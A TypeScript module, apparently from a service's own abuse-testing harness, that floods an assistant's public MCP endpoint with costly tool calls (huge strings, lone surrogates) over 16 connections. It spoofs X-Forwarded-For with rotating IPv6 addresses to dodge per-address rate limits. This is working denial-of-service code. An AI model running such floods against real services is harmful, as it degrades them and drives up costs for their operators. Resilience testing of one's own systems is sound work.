import { httpRequest } from '../../serving/http-request.ts';
import type { Attack } from './attack.ts';
import { flood } from './flood.ts';

const WORKERS = 16;

const call = (name: string, args: object) => ({
  jsonrpc: '2.0',
  id: 1,
  method: 'tools/call',
  params: { name, arguments: args },
});

/** What costs the most: a month of free starts, the longest question, and refusals of all fields. */
const messages = [
  call('list_free_starts', { propertyType: 'residential', squareFootage: 2400, zip: '75034' }),
  call('ask_question', { question: 'word '.repeat(200) }),
  call('ask_question', { question: 'x'.repeat(60_000) }),
  call('book_inspection', { notes: '\ud800'.repeat(9000) }),
  { jsonrpc: '2.0', id: 1, method: 'tools/list' },
];

export const assistantFlood: Attack = {
  measure: `${WORKERS} connections call the tools of assistants from ever new addresses of one IPv6 /48`,
  run(target) {
    let n = 0;
    return flood(target, WORKERS, () => {
      n += 1;
      const headers = { 'X-Forwarded-For': `2001:db8:7:${(n % 2 ** 16).toString(16)}::1` };
      return httpRequest('/api/mcp?public', { headers, body: messages[n % messages.length] ?? {} });
    });
  },
};
